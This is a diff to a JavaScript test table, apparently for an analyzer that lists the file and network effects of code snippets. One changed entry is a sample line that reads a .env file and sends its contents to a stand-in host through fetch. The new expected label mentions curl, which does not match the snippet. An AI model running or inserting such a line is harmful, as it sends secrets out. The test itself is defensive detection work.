@@ -69,7 +69,10 @@ describe('programs and the network', () => {
     ["require('https').get('https://a.example', r => r.pipe(process.stdout))", ['connect a.example']],
     ["new WebSocket('wss://a.example')", ['send: connect a.example']],
     ["require('net').connect(80, 'a.example')", ['send: connect a.example']],
-    ["fetch('https://a.example/?q=' + fs.readFileSync('.env'))", ['read /w/.env', 'send: connect a.example']],
+    [
+      "fetch('https://a.example/?q=' + fs.readFileSync('.env'))",
+      ['read /w/.env', 'send: connect a.example', 'read /w/.env, which curl sends'],
+    ],
     ["/x/.exec('y'); 'child_process'.length", []],
   ])('%s', (text, expected) => {
     expect(effectsOf(text)).toEqual(expected);
